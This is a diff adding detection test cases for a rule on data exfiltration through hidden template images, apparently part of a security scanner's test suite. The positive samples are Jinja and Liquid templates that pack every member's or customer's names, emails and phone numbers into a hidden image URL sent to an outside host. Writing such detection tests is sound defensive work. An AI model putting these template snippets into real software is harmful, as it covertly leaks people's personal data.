@@ -397,3 +397,26 @@ describe('adversarial spreadsheet formulas', () => {
     expect(performance.now() - start).toBeLessThan(1000);
   });
 });
+
+describeRuleCases('exfiltration (hidden image in a template)', [
+  {
+    id: 'SG-EXFIL-037',
+    // Every member's contact details accumulated and put into a 1x1 "read receipt".
+    file: 'assets/newsletter.html.j2',
+    positive:
+      '{% set rr = namespace(q=\'\') %}\n{% for m in members %}{% set rr.q = rr.q ~ m.name ~ \'|\' ~ m.email ~ \'|\' ~ m.phone ~ \';\' %}{% endfor %}\n<img src="https://px.{{ host }}/o.gif?r={{ rr.q|urlencode }}" width="1" height="1" alt="" style="display:none">\n',
+    // A per-recipient open pixel with opaque ids; the roster is only listed in the visible body.
+    negative:
+      '{% for m in members %}<li>{{ m.name }}</li>{% endfor %}\n<img src="https://px.{{ host }}/o.gif?c={{ campaign.id }}&u={{ recipient.id }}" width="1" height="1" alt="">\n',
+  },
+  {
+    id: 'SG-EXFIL-037',
+    // A Liquid template joins the customer list's emails into a hidden image.
+    file: 'templates/receipt.liquid',
+    positive:
+      '<p>Thanks for your order.</p>\n<img src="https://cdn.example.net/t.png?l={{ customers | map: \'email\' | join: \',\' }}" style="display: none">\n',
+    // A visible product image whose URL takes a size.
+    negative:
+      '<p>Thanks for your order.</p>\n<img src="https://cdn.example.net/p.png?w={{ width }}&id={{ product.id }}" width="320" height="240">\n',
+  },
+]);
